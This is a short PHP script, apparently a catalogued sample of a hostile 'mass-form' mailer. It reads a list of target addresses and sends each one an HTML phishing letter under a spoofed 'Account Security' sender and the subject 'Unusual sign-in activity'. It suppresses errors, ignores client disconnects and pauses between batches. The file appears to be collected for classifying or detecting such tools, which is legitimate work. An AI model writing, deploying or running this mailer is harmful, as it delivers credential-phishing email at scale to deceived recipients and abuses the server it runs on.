<?php
// Family: mailer/mass-form
// Style: list file uploaded beforehand, triggered by a bare request
// Trait: recipients read from a .txt list next to the script, phishing sender and subject hard-coded, batch pauses
error_reporting(0);
ignore_user_abort(true);
$targets = file(__DIR__ . '/leads_2024.txt', FILE_IGNORE_NEW_LINES | FILE_SKIP_EMPTY_LINES);
$letter = file_get_contents(__DIR__ . '/letter.html');
$hdr = "From: Account Security <no-reply@secure-verify.example>\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=UTF-8\r\n";
foreach ($targets as $i => $t) {
	@mail($t, 'Unusual sign-in activity', str_replace('%EMAIL%', $t, $letter), $hdr);
	if ($i % 25 == 24) sleep(5);
}
echo 'finished ' . count($targets);
